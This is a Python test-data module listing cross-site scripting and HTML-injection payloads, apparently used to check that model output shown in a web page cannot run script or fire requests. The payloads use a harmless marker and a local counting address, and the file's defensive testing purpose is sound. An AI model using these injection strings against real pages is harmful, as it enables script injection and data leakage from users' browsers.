"""Texts by which a model could try to break out of a page.

Each would, if a browser took it for markup, set `window.broken`, open a dialogue or send a request.
"""

ADDRESS = "http://127.0.0.1:9/hit"
"""Replaced by the address of a server that counts requests."""
BREAK = "window.broken=1"

PAYLOADS = (
    # elements that run a script
    f"<script>{BREAK}</script>",
    f"<script/x>{BREAK}</script>",
    f"<scr<script>ipt>{BREAK}</scr</script>ipt>",
    f"<script src={ADDRESS}></script>",
    f"<svg><script>{BREAK}</script></svg>",
    f"<svg><script href={ADDRESS} /></svg>",
    # handlers
    f"<img src=x onerror={BREAK}>",
    f"<img/src/onerror={BREAK}>",
    f"<svg onload={BREAK}>",
    f"<body onload={BREAK}>",
    f"<input autofocus onfocus={BREAK}>",
    f"<details open ontoggle={BREAK}>",
    f"<video><source onerror={BREAK}></video>",
    f"<link rel=stylesheet href=x onerror={BREAK}>",
    f"<a href=# style=animation-name:x onanimationstart={BREAK}>x</a>",
    f"<svg><animate onbegin={BREAK} attributeName=x dur=1s></svg>",
    f"<svg><a><animate attributeName=href values=javascript:{BREAK} /><text>x</text></a></svg>",
    # out of attributes
    f'" onmouseover="{BREAK}" autofocus onfocus="{BREAK}',
    f"' onmouseover='{BREAK}' autofocus onfocus='{BREAK}",
    f'"><script>{BREAK}</script>',
    f'"><img src=x onerror={BREAK}>',
    # out of elements
    f"</code></pre><script>{BREAK}</script>",
    f"</summary></details></td></tr></table><script>{BREAK}</script>",
    f"</script><script>{BREAK}</script>",
    f"</style><script>{BREAK}</script>",
    f"</title><script>{BREAK}</script>",
    f"</svg><script>{BREAK}</script>",
    f"--><script>{BREAK}</script>",
    f"<!--<script>{BREAK}</script>",
    f"]]><script>{BREAK}</script>",
    f"<plaintext><script>{BREAK}</script>",
    f"<noscript><p title='</noscript><img src=x onerror={BREAK}>'>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={BREAK}>'>",
    # addresses
    f"javascript:{BREAK}",
    f"<a href=javascript:{BREAK}>x</a>",
    f"<a href='java\tscript:{BREAK}'>x</a>",
    f"<a href=data:text/html,<script>{BREAK}</script>>x</a>",
    f"[x](javascript:{BREAK})",
    f"![x]({ADDRESS})",
    f"<iframe src=javascript:{BREAK}></iframe>",
    f"<iframe srcdoc='<script>parent.{BREAK}</script>'></iframe>",
    f"<form action={ADDRESS}><button autofocus>x</button></form>",
    f"<base href={ADDRESS}/>",
    f"<meta http-equiv=refresh content='0;url={ADDRESS}'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    # requests without a script
    f"<img src={ADDRESS}>",
    f"<link rel=prefetch href={ADDRESS}>",
    f"<style>@import '{ADDRESS}';</style>",
    f"<style>*{{background:url({ADDRESS})}}</style>",
    f"<p style='background:url({ADDRESS})'>x</p>",
    f"<svg><use href={ADDRESS}#x /></svg>",
    f"<video poster={ADDRESS}></video>",
    f"<iframe src={ADDRESS}></iframe>",
    # entities, other encodings and templates
    f"&lt;script&gt;{BREAK}&lt;/script&gt;",
    f"+ADw-script+AD4-{BREAK}+ADw-/script+AD4-",
    f"{{{{ ''.__class__ }}}}<script>{BREAK}</script>{{% raw %}}",
    f"${{{BREAK}}} #{{{BREAK}}}",
    "<img src=x onerror=&#119;indow.broken=1>",
    f"\uff1cscript\uff1e{BREAK}\uff1c/script\uff1e",
    f"<scr\u200bipt>{BREAK}</scr\u200bipt>",
    f"\u202e>tpircs/<{BREAK}>tpircs<",
)  # fmt: skip
